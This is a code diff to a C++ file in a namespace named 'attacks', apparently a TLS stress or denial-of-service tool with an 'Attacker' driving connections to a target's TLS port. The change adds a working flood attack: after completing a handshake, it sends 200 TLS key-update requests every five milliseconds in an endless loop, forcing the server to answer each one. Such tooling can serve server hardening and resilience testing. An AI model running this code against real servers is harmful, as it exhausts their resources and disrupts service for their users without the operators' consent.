@@ -5,6 +5,7 @@
 #include <openssl/ssl.h>
 #include <openssl/x509v3.h>
 
+#include <chrono>
 #include <cstdio>
 #include <memory>
 #include <stdexcept>
@@ -32,6 +33,16 @@ class TlsClient {
       BIO_read(SSL_get_wbio(ssl_.get()), to_send.data(), static_cast<int>(to_send.size()));
     return to_send;
   }
+  /// Returns many requests for new keys, each of which the server must answer.
+  std::string update_keys() {
+    constexpr int kUpdates = 200;
+    std::string to_send;
+    for (int i = 0; i < kUpdates; ++i) {
+      SSL_key_update(ssl_.get(), SSL_KEY_UPDATE_REQUESTED);
+      to_send += advance({});
+    }
+    return to_send;
+  }
   bool is_done() const { return SSL_is_init_finished(ssl_.get()) == 1; }
 
  private:
@@ -44,8 +55,7 @@ class TlsClient {
   std::unique_ptr<SSL, decltype(&SSL_free)> ssl_;
 };
 
-Task<bool> shake_hands(RawLine& line) {
-  TlsClient client;
+Task<bool> shake_hands(RawLine& line, TlsClient& client) {
   for (std::string received;;) {
     auto const to_send = client.advance(received);
     bool open = true;
@@ -71,9 +81,23 @@ Task<void> stop_handshakes(Attacker& me) {
 Task<void> hold_tls_connections(Attacker& me) {
   auto line = me.line();
   bool open = co_await line.connect(me.target.tls_port);
-  if (open) open = co_await shake_hands(line);
+  TlsClient client;
+  if (open) open = co_await shake_hands(line, client);
   me.count(open ? "held" : "not let in");
   if (open) co_await line.hear_all();
+}
+
+Task<void> update_keys(Attacker& me) {
+  auto line = me.line();
+  TlsClient client;
+  bool open = co_await line.connect(me.target.tls_port);
+  if (open) open = co_await shake_hands(line, client);
+  while (open) {
+    auto const updates = client.update_keys();
+    open = co_await line.send(updates);
+    me.count(open ? "sent" : "cut");
+    co_await wait(std::chrono::milliseconds(5));
+  }
 }
 
 }  // namespace attacks
